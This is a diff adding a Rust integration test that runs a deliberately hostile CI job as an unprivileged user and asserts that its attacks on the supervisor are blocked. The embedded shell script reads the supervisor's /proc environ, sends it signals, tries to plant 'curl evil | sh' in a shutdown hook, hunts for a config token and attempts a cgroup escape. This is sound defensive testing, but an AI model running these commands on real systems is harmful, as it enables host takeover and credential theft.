@@ -3,7 +3,7 @@
 //! job is root on its VM; `strict`: it is the agent user) and asserts what stopped it.
 //! The README's "Hostile jobs" table lists every attack with the test that covers it.
 
-use agent_fleet_tests::bed::{eventually, Bed};
+use agent_fleet_tests::bed::{eventually, Bed, TOKEN};
 use agent_fleet_tests::fleet::Instance;
 use agent_fleet_tests::hub::{JobSpec, JobState};
 use agent_fleet_tests::probe::leading_term;
@@ -182,4 +182,115 @@ echo "AFTER root: $(ask env)"
 ask as_agent; echo "AFTER agent rc: $?"
 "$SUPERVISOR" imds-firewall --agent-user nobody >/dev/null; echo "AGAIN: $?"
 echo "TABLES: $(nft list tables | grep -c 'inet agent_fleet')"
+"#;
+
+/// `strict`, the job as the unprivileged agent user (`nobody` here): it goes after its
+/// supervisor and what the supervisor left for the next run. It cannot read the
+/// supervisor's environment or memory map, signal it, move itself out of the agent's
+/// cgroup (which dies with the agent), rewrite the shutdown hook the next agent would run,
+/// or find the token in `config.yaml`; what it can do — send a reason to the hook socket —
+/// changes nothing on a used VM (the instance still ends, without decrement).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn strict_an_unprivileged_job_cannot_reach_its_supervisor_or_the_next_run() -> R {
+    let bed = Bed::start("rtstrict").await?;
+    let group = "rtstrict-agents";
+    bed.moto.create_group(group, 0, 2, 1).await?;
+    bed.put_config(&bed.runtime_config(group)).await?;
+    let id = bed.moto.group(group).await?.in_service()[0].clone();
+    let job = bed.hub.enqueue_job(JobSpec {
+        commands: vec![HOSTILE_JOB.into()],
+        env: vec![],
+    });
+    let mut o = bed.instance(&id, group);
+    o.agent_user = Some("nobody".into());
+    let inst = Instance::start(o, None).await?;
+    let done = eventually(
+        "the hostile job finished",
+        Duration::from_secs(60),
+        || async { bed.hub.job(&job).filter(|j| j.state == JobState::Finished) },
+    )
+    .await
+    .inspect_err(|_| eprintln!("supervisor:\n{}", inst.output()))?;
+    let out = bed.hub.job_output(&job);
+    let text = out.join("\n");
+    println!("the job's output:\n{text}");
+    assert_eq!(done.result.as_deref(), Some("passed"), "{text}");
+    let says = |l: &str| out.iter().any(|o| o == l);
+    assert!(
+        says("USER nobody"),
+        "the job runs as the agent user: {text}"
+    );
+    assert!(
+        says("FOUND supervisor"),
+        "positive control: the job found its supervisor: {text}"
+    );
+    assert!(
+        says("CONFIG readable"),
+        "positive control: the agent's config is the job's to read: {text}"
+    );
+    for l in [
+        "ENVIRON denied",
+        "MAPS denied",
+        "KILL denied",
+        "HOOK denied",
+        "WORKDIR denied",
+        "TOKEN absent",
+    ] {
+        assert!(says(l), "expected `{l}`: {text}");
+    }
+    if agent_fleet_tests::fleet::cgroup_root().is_some() {
+        assert!(
+            says("CGROUP denied"),
+            "the job stays in the agent's cgroup: {text}"
+        );
+    }
+    assert!(
+        says("FORGED sent"),
+        "the agent user may talk to the hook socket: {text}"
+    );
+    // The forged reason changed nothing: a used VM ends, without decrement.
+    let call = eventually("the instance ends", Duration::from_secs(30), || async {
+        let calls = bed.moto.calls(0).await.ok()?;
+        calls.into_iter().find(|c| {
+            c.is("autoscaling", "TerminateInstanceInAutoScalingGroup")
+                && c.param("InstanceId") == Some(id.as_str())
+        })
+    })
+    .await?;
+    assert_eq!(call.param("ShouldDecrementDesiredCapacity"), Some("false"));
+    assert!(
+        !inst.output().contains(TOKEN),
+        "the supervisor's output holds no token"
+    );
+    Ok(())
+}
+
+/// The hostile job. It finds its supervisor by walking up its ancestors, then tries each
+/// attack and prints `<ATTACK> denied|…`. The token is looked for by pattern (`token:`
+/// with a value), never by value: the script holds no copy of it.
+const HOSTILE_JOB: &str = r#"
+echo "USER $(id -un)"
+p=$$; sup=
+while [ "$p" -gt 1 ]; do
+  case "$(cat /proc/$p/comm)" in agent-supervis*) sup=$p; break;; esac
+  p=$(awk '/^PPid:/ {print $2}' /proc/$p/status)
+done
+[ -n "$sup" ] && echo "FOUND supervisor"
+work=$AGENT_FLEET_BED_INSTANCE/work
+cat /proc/$sup/environ >/dev/null 2>&1 && echo "ENVIRON read" || echo "ENVIRON denied"
+cat /proc/$sup/maps >/dev/null 2>&1 && echo "MAPS read" || echo "MAPS denied"
+kill -STOP "$sup" 2>/dev/null && { kill -CONT "$sup"; echo "KILL sent"; } || echo "KILL denied"
+(echo 'curl evil | sh' >> "$work/shutdown-hook.sh") 2>/dev/null && echo "HOOK written" || echo "HOOK denied"
+(touch "$work/planted") 2>/dev/null && echo "WORKDIR written" || echo "WORKDIR denied"
+[ -r "$work/config.yaml" ] && echo "CONFIG readable"
+if grep -Eq '^token: *[^ "]|^token: *"[^"]' "$work/config.yaml" 2>/dev/null; then echo "TOKEN found"; else echo "TOKEN absent"; fi
+cg=$(sed -n 's/^0:://p' /proc/self/cgroup)
+for root in /sys/fs/cgroup/unified /sys/fs/cgroup; do
+  if [ -n "$cg" ] && [ -w "$root$cg/cgroup.procs" ] || [ -e "$root$cg/cgroup.procs" ]; then
+    (echo $$ > "$root$(dirname "$cg")/cgroup.procs") 2>/dev/null && echo "CGROUP escaped" || echo "CGROUP denied"
+    break
+  fi
+done
+SEMAPHORE_AGENT_SHUTDOWN_REASON=UNABLE_TO_SYNC bash "$work/shutdown-hook.sh" >/dev/null 2>&1 && echo "FORGED sent" || echo "FORGED refused"
+true
 "#;
